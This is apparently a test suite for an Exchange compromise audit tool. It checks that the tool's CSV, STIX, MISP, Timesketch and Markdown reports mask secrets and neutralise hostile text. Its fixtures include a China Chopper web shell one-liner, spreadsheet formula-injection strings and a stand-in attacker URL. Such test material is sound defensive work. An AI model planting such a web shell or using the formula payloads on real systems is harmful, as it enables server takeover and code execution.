"""Machine formats: CSV inert in spreadsheets, STIX 2.1 valid, MISP loadable, Timesketch complete, JSON raw."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from typing import Any

import pytest
import stix2

from conftest import CANARY, FORMULAS, HOSTILE, PASSWORD, SECRETS, SHELL_SHA, hunt_document, scan_document
from exaudit.render import FORMATS, RenderError, render
from exaudit.render.csv_out import neutralise
from exaudit.render.timesketch import COLUMNS

SHAREABLE = [f for f in FORMATS if f != "json"]


@pytest.mark.parametrize("fmt", SHAREABLE)
@pytest.mark.parametrize("lang", ["en", "fr"])
def test_shareable_formats_mask_every_secret(documents: list[dict[str, Any]], fmt: str, lang: str) -> None:
    out = render(documents, fmt, lang)
    for secret in SECRETS:
        assert secret not in out, f"{secret!r} leaked into {fmt}"


def test_canonical_json_keeps_raw_evidence(documents: list[dict[str, Any]]) -> None:
    merged = json.loads(render(documents, "json"))
    assert merged["kind"] == "report" and [d["kind"] for d in merged["documents"]] == ["scan", "hunt"]
    text = json.dumps(merged)
    assert CANARY in text and PASSWORD in text
    single = json.loads(render(documents[1:], "json"))
    assert single == documents[1]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "\uff1dSUM(A1)"])
def test_neutralise_formula_starts(value: str) -> None:
    assert neutralise(value) == "'" + value


def test_neutralise_leaves_plain_text_and_numbers() -> None:
    assert neutralise("POST /ecp/y.js") == "POST /ecp/y.js"
    assert neutralise(-3) == -3


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_findings_csv_cells_are_inert(documents: list[dict[str, Any]]) -> None:
    rows = _csv_rows(render(documents, "csv"))
    assert len(rows) == 5
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r\n"], "a cell would run as a formula"
    evidence = {r["rule"]: r["evidence"] for r in rows}
    assert evidence["proxyshell-autodiscover"] == "'" + FORMULAS[0]  # shown as text, nothing lost
    agents = next(r["user_agents"] for r in rows if r["rule"] == "proxyshell-autodiscover")
    assert agents.startswith("'+cmd")
    assert rows[0]["severity"] == "critical"  # worst first


def test_timesketch_jsonl_has_required_fields(documents: list[dict[str, Any]]) -> None:
    lines = render(documents, "timesketch").splitlines()
    events = [json.loads(line) for line in lines]
    assert len(events) == 5  # three timeline events + the two findings that no event refers to
    for event in events:
        assert event["message"] and event["timestamp_desc"]
        parsed = datetime.fromisoformat(event["datetime"])
        assert parsed.utcoffset() is not None and parsed.utcoffset().total_seconds() == 0
        epoch_us = round((parsed - datetime(1970, 1, 1, tzinfo=UTC)).total_seconds() * 1_000_000)
        assert event["timestamp"] == epoch_us
    assert [e["timestamp"] for e in events] == sorted(e["timestamp"] for e in events)
    lsass = next(e for e in events if e["rule_id"] == "lsass-dump")
    assert lsass["timestamp"] % 1_000_000 == 250_000  # milliseconds kept
    assert "[MASKED]" in lsass["message"]


def test_timesketch_csv_has_required_columns(documents: list[dict[str, Any]]) -> None:
    rows = _csv_rows(render(documents, "timesketch-csv"))
    assert len(rows) == 5 and tuple(rows[0].keys()) == COLUMNS
    for row in rows:
        assert row["message"] and row["datetime"] and row["timestamp_desc"] and row["timestamp"].isdigit()


def test_stix_bundle_parses_back_strictly(documents: list[dict[str, Any]]) -> None:
    bundle = stix2.parse(render(documents, "stix"), allow_custom=False)
    by_type: dict[str, list[Any]] = {}
    for obj in bundle.objects:
        by_type.setdefault(obj.type, []).append(obj)
    patterns = {i.pattern for i in by_type["indicator"]}
    assert "[ipv4-addr:value = '203.0.113.7']" in patterns
    assert "[ipv6-addr:value = '2001:db8::66']" in patterns
    assert f"[file:hashes.'SHA-256' = '{SHELL_SHA}']" in patterns
    assert "[url:value = 'http://evil.example/x.js?\\'quote\\'']" in patterns  # quotes escaped, still valid
    assert not [p for p in patterns if "not-an-ip" in p]  # hostile text is not an indicator
    assert not [p for p in patterns if "/ecp/DDI" in p]  # a bare path is no URL indicator
    files = {o.name for o in by_type["file"]}
    assert files == {"supp0rt.aspx", "lsass.dmp"}  # rundll32.exe was used, not brought: never an indicator
    hosts = {i.id: i.name for i in by_type["identity"] if i.identity_class == "system"}
    ids = {o.id for o in bundle.objects}
    for sighting in by_type["sighting"]:
        assert sighting.sighting_of_ref in ids and set(sighting.observed_data_refs) <= ids
        assert all(ref in hosts for ref in sighting.where_sighted_refs)
    for observed in by_type["observed-data"]:
        assert set(observed.object_refs) <= ids and observed.number_observed >= 1
    assert {v.name for v in by_type["vulnerability"]} >= {"CVE-2021-26855", "CVE-2021-27065", "CVE-2021-34473"}
    assert all(o.object_marking_refs == [stix2.TLP_AMBER.id] for o in by_type["indicator"])


def test_stix_names_follow_the_language(documents: list[dict[str, Any]]) -> None:
    fr = stix2.parse(render(documents, "stix", "fr"), allow_custom=False)
    names = [o.name for o in fr.objects if o.type == "indicator"]
    assert "Adresse IP de l'attaquant 203.0.113.7" in names


def test_misp_event_loads_in_pymisp(documents: list[dict[str, Any]]) -> None:
    pymisp = pytest.importorskip("pymisp", reason="pymisp is in the [test] extra")
    text = render(documents, "misp", tlp="green")
    event = pymisp.MISPEvent()
    event.load(text)
    mapping = event.describe_types["category_type_mappings"]
    for attribute in event.attributes:
        assert attribute.type in mapping[attribute.category], (attribute.category, attribute.type)
    values = {(a.type, a.value): a for a in event.attributes}
    assert values[("ip-src", "203.0.113.7")].to_ids is True
    assert values[("filename|sha256", f"supp0rt.aspx|{SHELL_SHA}")].to_ids is True
    assert values[("vulnerability", "CVE-2021-27065")].to_ids is False
    assert all(not a.to_ids for a in event.attributes if a.type in ("user-agent", "uri"))  # context only
    assert not [a for a in event.attributes if "rundll32" in str(a.value)]
    assert "tlp:green" in [t.name for t in event.tags]
    assert event.threat_level_id == 1 and not event.published
    assert len(event.info) <= 256


def test_hostile_text_never_raw_in_markdown(documents: list[dict[str, Any]]) -> None:
    out = render(documents, "md", "en")
    # code fences and code spans show their content literally: what matters is everything else
    outside_fences = re.sub(r"(`+).*?\1", "", out, flags=re.S)
    assert "window.__pwned = 2" in out  # the evidence is still there, inside code
    for payload in HOSTILE:
        assert payload not in outside_fences
    assert not re.search(r"(?<!\\)[<>]", outside_fences), "an unescaped angle bracket could open an HTML tag"


def test_unknown_format_language_or_tlp_is_a_clear_error() -> None:
    docs = [scan_document(), hunt_document()]
    with pytest.raises(RenderError, match="unknown format"):
        render(docs, "pdf")
    with pytest.raises(RenderError, match="unknown language"):
        render(docs, "html", "de")
    with pytest.raises(RenderError, match="unknown TLP"):
        render(docs, "misp", tlp="purple")


def test_empty_and_partial_documents_render() -> None:
    # a scan with no Exchange, and a hunt with nothing found: every format still renders
    docs = [{"schema": "exaudit/1", "kind": "scan", "results": []}, {"schema": "exaudit/1", "kind": "hunt", "hosts": []}]
    for fmt in FORMATS:
        assert render(docs, fmt, "fr") is not None
    stix2.parse(render(docs, "stix"), allow_custom=False)


def test_long_evidence_is_clipped_for_reading_but_kept_in_json() -> None:
    hunt = hunt_document()
    hunt["findings"][0]["evidence"] = "A" * 10_000
    assert "A" * 10_000 not in render([hunt], "html") and "+6000 characters in the JSON output" in render([hunt], "md")
    assert "A" * 10_000 in render([hunt], "json")


def test_webshells_document_makes_the_file_an_indicator_to_remove() -> None:
    webshells = {
        "schema": "exaudit/1",
        "kind": "webshells",
        "hosts": [{"host": "EX05", "verdict": "compromised"}],
        "findings": [
            {
                "rule": "webshell.chopper",
                "title": "China Chopper",
                "host": "EX05",
                "severity": "critical",
                "stage": "persistence",
                "source": {"path": r"C:\inetpub\wwwroot\aspnet_client\x.aspx", "line": 1},
                "evidence": '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
            }
        ],
        "inputs": [{"path": r"C:\inetpub\wwwroot\aspnet_client\x.aspx", "sha256": "cd" * 32}],
    }
    bundle = stix2.parse(render([webshells], "stix"), allow_custom=False)
    assert f"[file:hashes.'SHA-256' = '{'cd' * 32}']" in {o.pattern for o in bundle.objects if o.type == "indicator"}
    html = render([webshells], "html")
    plan = html[html.index('<section id="plan">') :]
    assert r"C:\inetpub\wwwroot\aspnet_client\x.aspx" in plan and "cd" * 32 in plan
